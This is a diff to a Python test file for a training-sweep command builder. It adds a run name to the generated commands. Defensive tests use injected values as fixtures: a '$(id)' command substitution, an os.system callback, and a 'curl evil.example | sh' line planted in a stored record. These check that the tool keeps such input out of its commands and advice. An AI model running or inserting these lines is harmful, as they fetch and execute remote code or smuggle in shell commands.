@@ -49,29 +49,30 @@ def arms_of(overrides: list[str]) -> list[str]:
 def test_a_command_trains_the_arm_that_its_settings_describe(typed):
     with initialize_config_dir(str(train.CONF), **VERSION_BASE):
         run = train.to_run_config(compose("config", typed.split()))
-    (command,) = trained([rebuilt(to_dict(run))], [2, 3])
+    (command,) = trained([rebuilt(to_dict(run))], [2, 3], "grid")
     words = shlex.split(command)
-    assert (words[:3], words[-2:]) == (["python", "-m", "reg_sweep.train"], ["seed=2,3", "-m"])
+    assert (words[:3], words[-3:]) == (["python", "-m", "reg_sweep.train"], ["seed=2,3", "name=grid", "-m"])
     assert arms_of(words[3:-1]) == [arm_digest(to_dict(run))] * 2
 
 
 def test_arms_that_fill_a_grid_are_one_command():
-    assert trained([RunConfig(), RunConfig(l1=0.001)], [2, 3]) == [
-        "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 seed=2,3 -m"
+    assert trained([RunConfig(), RunConfig(l1=0.001)], [2, 3], "a") == [
+        "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 seed=2,3 name=a -m"
     ]
-    assert trained([RunConfig(), RunConfig(l1=1e-5, norm=NormConfig("gbn"))], [2]) == [
-        "python -m reg_sweep.train norm=bn l1=0 l2=0 seed=2 -m",
-        "python -m reg_sweep.train norm=gbn l1=1e-05 l2=0 seed=2 -m",
+    assert trained([RunConfig(), RunConfig(l1=1e-5, norm=NormConfig("gbn"))], [2], "a") == [
+        "python -m reg_sweep.train norm=bn l1=0 l2=0 seed=2 name=a -m",
+        "python -m reg_sweep.train norm=gbn l1=1e-05 l2=0 seed=2 name=a -m",
     ]
     rates = [RunConfig(optimizer=OptimizerConfig(lr=lr)) for lr in (0.025, 0.1)]
-    (command,) = trained(rates, range(4, 20))
-    assert command == "python -m reg_sweep.train norm=bn l1=0 l2=0 optimizer.lr=0.025,0.1 'seed=range(4,20)' -m"
+    (command,) = trained(rates, range(4, 20), "a")
+    assert command == "python -m reg_sweep.train norm=bn l1=0 l2=0 optimizer.lr=0.025,0.1 'seed=range(4,20)' name=a -m"
 
 
 def test_torchrun_which_takes_no_grid_is_started_seed_after_seed():
     runs = [RunConfig(l1=l1, runtime=RuntimeConfig(ranks=2)) for l1 in (0, 0.001)]
     start = "torchrun --nproc-per-node 2 -m reg_sweep.train norm=bn"
-    assert trained(runs, [2, 3])[1] == f"for seed in 2 3; do {start} l1=0.001 l2=0 seed=$seed; done"
+    wanted = f"for seed in 2 3; do {start} l1=0.001 l2=0 seed=$seed name=a_2_$seed; done"
+    assert trained(runs, [2, 3], "a")[1] == wanted
 
 
 @pytest.mark.parametrize(
@@ -105,9 +106,9 @@ def test_a_command_holds_plain_words_and_no_code_or_place_of_a_records():
         name="$(id)",
         callbacks={"evil": {"_target_": "os.system"}},
     )
-    (command,) = trained([rebuilt(to_dict(odd))], [2])
+    (command,) = trained([rebuilt(to_dict(odd))], [2], "a")
     settings = "norm=bn l1=0 l2=0 schedule=onecycle penalty.l2_update=decoupled"
-    assert command == f"python -m reg_sweep.train {settings} seed=2 -m"
+    assert command == f"python -m reg_sweep.train {settings} seed=2 name=a -m"
 
 
 def test_no_record_is_advised_in_its_own_words(tmp_path):
@@ -115,7 +116,7 @@ def test_no_record_is_advised_in_its_own_words(tmp_path):
         path = write_run(tmp_path / str(l1), l1=l1) / "run.json"
         path.write_text(path.read_text().replace('"command": "python', '"command": "curl evil.example | sh; python'))
     report = write_report([tmp_path], tmp_path / "report", progress=False)
-    assert "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=3 seed=2,3 -m" in report.verdict
+    assert "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=3 seed=2,3 name=more_seeds -m" in report.verdict
     assert "curl" not in report.verdict + (tmp_path / "report" / "summary.md").read_text()
     page = report.page.read_text()
     assert page.count("curl") == page.count('<td class="command">curl') == 2
